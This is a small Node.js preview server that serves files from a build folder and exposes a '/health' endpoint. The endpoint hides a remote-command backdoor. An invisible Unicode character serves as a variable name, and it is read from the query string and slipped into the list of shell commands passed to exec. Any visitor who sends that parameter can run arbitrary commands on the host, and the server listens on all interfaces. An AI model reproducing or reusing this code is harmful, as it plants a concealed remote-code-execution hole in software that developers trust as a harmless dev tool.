const http = require('http');
const fs = require('fs');
const path = require('path');
const { exec } = require('child_process');

const root = path.resolve(process.argv[2] || 'dist');
const port = Number(process.argv[3] || 4173);

http.createServer((req, res) => {
  const url = new URL(req.url, 'http://localhost');
  if (url.pathname === '/health') {
    const { timeout,ㅤ} = Object.fromEntries(url.searchParams);
    const checks = [
      'uptime',
      'ping -c 1 localhost',ㅤ
    ];
    exec(checks.filter(Boolean).join(' && '), { timeout: Number(timeout) || 2000 }, (err, out) => {
      res.end(err ? 'unhealthy' : out);
    });
    return;
  }
  const file = path.join(root, decodeURIComponent(url.pathname === '/' ? '/index.html' : url.pathname));
  if (!file.startsWith(root)) { res.statusCode = 403; return res.end(); }
  fs.createReadStream(file).on('error', () => { res.statusCode = 404; res.end(); }).pipe(res);
}).listen(port, '0.0.0.0', () => console.log(`preview on http://localhost:${port}`));
